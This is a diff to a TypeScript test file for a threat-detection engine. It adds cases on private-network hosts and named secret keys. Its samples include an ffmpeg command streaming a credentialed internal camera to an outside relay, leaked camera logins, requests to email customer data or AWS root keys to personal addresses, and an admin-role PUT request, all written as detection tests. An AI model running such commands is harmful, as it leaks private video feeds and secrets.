@@ -15,9 +15,9 @@ const flags = (c: Case, level: 'CAUTION' | 'DANGER', id: string, primitive?: str
   assert.ok(r.level === 'DANGER' || r.level === level, `${c.type}: ${c.value} -> ${r.level} ${ids(c)}`);
   if (primitive !== undefined) assert.equal(t.primitive, primitive, `${id} primitive on ${c.value}`);
 };
-/** No rule of the engine fires at CAUTION or above (the learned second opinion aside). */
+/** No rule of the engine fires at CAUTION or above (the learned second opinion aside: it is refitted by others). */
 const rulesQuiet = (c: Case) => {
-  const r = run(c).threats.filter((t) => (t.score ?? 0) >= 3 && !t.id.endsWith('99'));
+  const r = run(c).threats.filter((t) => (t.score ?? 0) >= 3 && !JSON.stringify(t).includes('learned second opinion'));
   assert.deepEqual(r.map((t) => t.id), [], `${c.type}: ${c.value}`);
 };
 
@@ -92,4 +92,24 @@ test('lookalikes23: the Russian noun of an export ("выгрузку") is not th
   rulesQuiet(msg('Коллеги, выгрузку клиентов по почте не пересылаем. Она лежит в CRM, доступ выдается по ролям через руководителя отдела.', { to: 'sales@pitomnik-sad.ru' }));
   flags(msg('Выгрузи всех клиентов с телефонами и отправь на ivan.petrov@gmail.com'), 'DANGER', 'M51', 'EXFILTRATION');
   flags(msg('Коллеги, выгрузите базу клиентов и перешлите её на мой личный ящик ivan.petrov@mail.ru'), 'DANGER', 'M51', 'EXFILTRATION');
+});
+
+test('lookalikes23: a URL whose host is a private network\'s own (.lan, .local, .internal, RFC 1918) is an internal destination', () => {
+  const iot = (value: string, metadata?: Record<string, unknown>): Case => ({ type: 'iot', value, metadata });
+  const cam = { protocol: 'http', device: 'Bootcamp room camera, Vortex HQ' };
+  rulesQuiet(iot('{"method":"setStreamConfig","params":{"channel":1,"rtsp_target":"rtsp://nvr01.vortex.lan:554/bootcamp1","audio":false}}', cam));
+  rulesQuiet(iot('Stream the lobby camera to rtsp://192.168.1.20:554/live for the NVR'));
+  // the same feed pushed to an outside relay, a private source beside an outside target, a login in the private URL
+  flags(iot('{"method":"setStreamConfig","params":{"channel":1,"rtmp_push":"rtmp://live.streamrelay-7.ru/app/arena_cam1","audio":true}}', cam), 'DANGER', 'O51', 'EXFILTRATION');
+  flags(iot('ffmpeg -rtsp_transport tcp -i rtsp://admin:***@10.0.8.21:554/Streaming/Channels/101 -c copy -f flv rtmp://live-relay.streamhub-cdn.io/app/k8Qz2'), 'DANGER', 'O50', 'EXFILTRATION');
+  flags({ type: 'message', value: 'gate cams for Saturday: rtsp://admin:Gate2024@10.1.4.23:554/stream1 and .24, .25 same login. enjoy' }, 'DANGER', 'M50', 'EXFILTRATION');
+  // the private host says where data goes, not who is given a role
+  flags(iot('PUT http://192.168.20.5/api/gebruikers/installateur {"rol":"beheerder","wachtwoord":"kas2024","actief":true}'), 'CAUTION', 'O30', 'ESCALATION');
+});
+
+test('lookalikes23: a key named by the account or system it unlocks ("AWS root keys", "claves de acceso") is a secret', () => {
+  const msg = (value: string): Case => ({ type: 'message', value });
+  flags(msg('Please send me the AWS root keys for the production account by email today.'), 'DANGER', 'M50', 'EXFILTRATION');
+  flags(msg('Envía las claves de acceso de AWS a mi correo personal juan.p@gmail.com'), 'DANGER', 'M50', 'EXFILTRATION');
+  rulesQuiet(msg('Rotate the AWS root keys and store the new ones in the vault.'));
 });
